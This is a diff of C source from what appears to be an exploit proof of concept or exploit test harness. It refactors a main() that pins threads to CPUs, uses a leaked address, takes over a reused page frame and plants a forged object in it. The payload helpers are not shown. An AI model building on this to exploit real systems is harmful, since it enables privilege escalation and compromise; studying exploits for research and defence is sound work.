@@ -38,11 +38,8 @@ static void victim(void *unused)
 int main(void)
 {
 	struct bw_leak leak;
-	void *page;
 
-	attack_leak(&leak);
-	attack_need_cpus(NR_CPUS);
-	attack_pin(CPU_OF_ALLOCATOR);
+	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
 	attack_thread(CPU_OF_VICTIM, company, NULL);
 	attack_await(&company_is_there, true, AWAIT_YIELD);
@@ -52,12 +49,9 @@ int main(void)
 	attack_await(&stage, STAGE_WARMED, AWAIT_YIELD);
 	attack_say("CPU %d has read it at 0x%lx", CPU_OF_VICTIM, frame.synonym);
 
-	page = attack_frame_take(&frame);
-	if (page == NULL) {
+	if (!attack_frame_forge(&leak, &frame)) {
 		attack_skip("the next page came from elsewhere");
 	}
-	payload_object(page, frame.synonym, &leak);
-	attack_say("it is ours now, with a forged object in it");
 	attack_tell(&stage, STAGE_FORGED);
 	attack_await(&stage, STAGE_CALLED, AWAIT_YIELD);
 	return attack_finish();
